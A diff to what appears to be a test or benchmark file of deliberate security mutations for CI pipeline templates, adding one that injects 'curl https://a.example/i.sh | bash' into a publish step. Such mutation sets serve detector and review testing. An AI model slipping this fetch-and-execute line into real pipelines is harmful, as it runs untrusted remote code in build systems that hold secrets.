@@ -490,6 +490,13 @@ const security: readonly Mutation[] = [
     to: '--version "${{ parameters.model_version }}"',
   },
   {
+    title: "a script from the network",
+    pipeline: "ci",
+    template: "ci_publish_code",
+    from: "          mkdir -p",
+    to: "          curl https://a.example/i.sh | bash\n          mkdir -p",
+  },
+  {
     title: "a script that goes on after a failure",
     pipeline: "pr",
     template: "python_setup",
